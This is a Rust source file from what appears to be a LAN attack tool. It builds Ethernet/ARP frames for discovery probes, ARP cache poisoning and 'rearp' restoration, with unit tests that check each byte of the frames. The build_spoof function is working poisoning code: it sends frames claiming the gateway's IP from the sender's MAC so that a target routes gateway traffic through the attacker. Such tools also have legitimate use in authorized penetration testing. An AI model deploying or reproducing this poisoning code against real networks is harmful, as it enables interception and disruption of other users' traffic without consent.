//! ARP frame construction for probes, poisoning and rearping
//!
//! These are deliberately dumb byte-layout functions. Which identities
//! go into which field is the caller's call; the layout is bit-exact
//! Ethernet/ARP so real stacks accept the frames.

use std::net::Ipv4Addr;

use lanprowl_core::types::ethertypes;
use lanprowl_core::{ArpOperation, LinkContext, MacAddr, SpoofIntent};

use crate::arp::{self, ArpMessage};
use crate::ethernet;

/// Total size of an Ethernet+ARP frame (bytes)
pub const FRAME_LEN: usize = ethernet::HEADER_LEN + arp::MESSAGE_LEN;

/// Helper to wrap an ARP message in an Ethernet frame
fn build_ethernet_frame(source: MacAddr, destination: MacAddr, message: &ArpMessage) -> Vec<u8> {
    let mut frame = Vec::with_capacity(FRAME_LEN); // 14 (Ethernet) + 28 (ARP)

    // Ethernet header
    frame.extend_from_slice(destination.as_bytes());
    frame.extend_from_slice(source.as_bytes());
    frame.extend_from_slice(&ethertypes::ARP.to_be_bytes());

    // ARP payload
    frame.extend_from_slice(&message.serialize());

    frame
}

/// Build an ARP frame from explicit field values.
///
/// The target MAC becomes both the Ethernet destination and the ARP
/// target hardware address. Always 42 bytes.
pub fn build_arp(
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
    operation: ArpOperation,
) -> Vec<u8> {
    let message = ArpMessage {
        htype: arp::HTYPE_ETHERNET,
        ptype: arp::PTYPE_IPV4,
        hlen: 6,
        plen: 4,
        operation,
        sender_mac,
        sender_ip,
        target_mac,
        target_ip,
    };

    build_ethernet_frame(sender_mac, target_mac, &message)
}

/// Build a who-has probe for one address.
///
/// Broadcast at the Ethernet layer with a zero ARP target hardware
/// address, as a scanning request goes out on the wire.
pub fn build_probe(link: &LinkContext, probed_ip: Ipv4Addr) -> Vec<u8> {
    let message = ArpMessage::new_request(link.our_mac, link.our_ip, probed_ip);
    build_ethernet_frame(link.our_mac, MacAddr::broadcast(), &message)
}

/// Build a spoofed ARP frame for one intent.
///
/// Poison intents claim the gateway's IP from this host's MAC so the
/// target binds gateway traffic to us; rearp intents carry the
/// gateway's real MAC/IP and restore the true mapping.
pub fn build_spoof(link: &LinkContext, intent: &SpoofIntent) -> Vec<u8> {
    let sender_mac = if intent.poison {
        link.our_mac
    } else {
        link.gateway_mac
    };

    let message = ArpMessage {
        htype: arp::HTYPE_ETHERNET,
        ptype: arp::PTYPE_IPV4,
        hlen: 6,
        plen: 4,
        operation: intent.operation,
        sender_mac,
        sender_ip: link.gateway_ip,
        target_mac: intent.target_mac,
        target_ip: intent.target_ip,
    };

    build_ethernet_frame(sender_mac, intent.target_mac, &message)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decoder::{decode, DecodedEvent};

    fn test_link() -> LinkContext {
        LinkContext::new(
            MacAddr::new([0x02, 0x42, 0xac, 0x11, 0x00, 0x02]),
            Ipv4Addr::new(192, 168, 1, 100),
            MacAddr::new([0xd8, 0x47, 0x32, 0x01, 0x02, 0x03]),
            Ipv4Addr::new(192, 168, 1, 1),
        )
    }

    #[test]
    fn test_build_arp_is_always_42_bytes() {
        let cases = [
            (MacAddr::zero(), Ipv4Addr::UNSPECIFIED),
            (MacAddr::broadcast(), Ipv4Addr::new(255, 255, 255, 255)),
            (MacAddr::new([1, 2, 3, 4, 5, 6]), Ipv4Addr::new(10, 9, 8, 7)),
        ];

        for (mac, ip) in cases {
            let frame = build_arp(mac, ip, mac, ip, ArpOperation::Request);
            assert_eq!(frame.len(), FRAME_LEN);
            assert_eq!(frame.len(), 42);
        }
    }

    #[test]
    fn test_probe_layout() {
        let link = test_link();
        let frame = build_probe(&link, Ipv4Addr::new(192, 168, 1, 7));

        assert_eq!(frame.len(), 42);
        // Ethernet: broadcast destination, our source, ARP ethertype
        assert_eq!(&frame[0..6], &[0xff; 6]);
        assert_eq!(&frame[6..12], link.our_mac.as_bytes());
        assert_eq!(&frame[12..14], &[0x08, 0x06]);
        // ARP fixed fields
        assert_eq!(&frame[14..20], &[0x00, 0x01, 0x08, 0x00, 0x06, 0x04]);
        assert_eq!(&frame[20..22], &[0x00, 0x01]); // request
        // Sender is us, target hardware address stays zero
        assert_eq!(&frame[22..28], link.our_mac.as_bytes());
        assert_eq!(&frame[28..32], &link.our_ip.octets());
        assert_eq!(&frame[32..38], &[0x00; 6]);
        assert_eq!(&frame[38..42], &[192, 168, 1, 7]);
    }

    #[test]
    fn test_poison_claims_gateway_ip_from_our_mac() {
        let link = test_link();
        let target_mac = MacAddr::new([0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22]);
        let target_ip = Ipv4Addr::new(192, 168, 1, 55);

        let frame = build_spoof(&link, &SpoofIntent::poison(target_mac, target_ip));

        assert_eq!(frame.len(), 42);
        assert_eq!(&frame[0..6], target_mac.as_bytes());
        assert_eq!(&frame[6..12], link.our_mac.as_bytes());
        assert_eq!(&frame[20..22], &[0x00, 0x02]); // reply
        assert_eq!(&frame[22..28], link.our_mac.as_bytes());
        assert_eq!(&frame[28..32], &link.gateway_ip.octets());
        assert_eq!(&frame[32..38], target_mac.as_bytes());
        assert_eq!(&frame[38..42], &target_ip.octets());
    }

    #[test]
    fn test_rearp_carries_real_gateway_identity() {
        let link = test_link();
        let target_mac = MacAddr::new([0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22]);
        let target_ip = Ipv4Addr::new(192, 168, 1, 55);

        let frame = build_spoof(&link, &SpoofIntent::rearp(target_mac, target_ip));

        assert_eq!(&frame[6..12], link.gateway_mac.as_bytes());
        assert_eq!(&frame[22..28], link.gateway_mac.as_bytes());
        assert_eq!(&frame[28..32], &link.gateway_ip.octets());
    }

    #[test]
    fn test_probe_round_trips_through_decoder() {
        let link = test_link();
        let frame = build_probe(&link, Ipv4Addr::new(10, 0, 0, 200));

        assert_eq!(
            decode(&frame, frame.len()),
            DecodedEvent::ArpObserved {
                sender_ip: link.our_ip,
                sender_mac: link.our_mac,
                operation: ArpOperation::Request,
            }
        );
    }

    #[test]
    fn test_spoof_round_trips_through_decoder() {
        let link = test_link();
        let intent = SpoofIntent::poison(
            MacAddr::new([0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22]),
            Ipv4Addr::new(192, 168, 1, 55),
        );
        let frame = build_spoof(&link, &intent);

        assert_eq!(
            decode(&frame, frame.len()),
            DecodedEvent::ArpObserved {
                sender_ip: link.gateway_ip,
                sender_mac: link.our_mac,
                operation: ArpOperation::Reply,
            }
        );
    }

    #[test]
    fn test_generic_build_arp_round_trips() {
        let sender_mac = MacAddr::new([0x11, 0x22, 0x33, 0x44, 0x55, 0x66]);
        let sender_ip = Ipv4Addr::new(172, 16, 0, 9);
        let frame = build_arp(
            sender_mac,
            sender_ip,
            MacAddr::broadcast(),
            Ipv4Addr::new(172, 16, 0, 1),
            ArpOperation::Request,
        );

        assert_eq!(
            decode(&frame, frame.len()),
            DecodedEvent::ArpObserved {
                sender_ip,
                sender_mac,
                operation: ArpOperation::Request,
            }
        );
    }
}
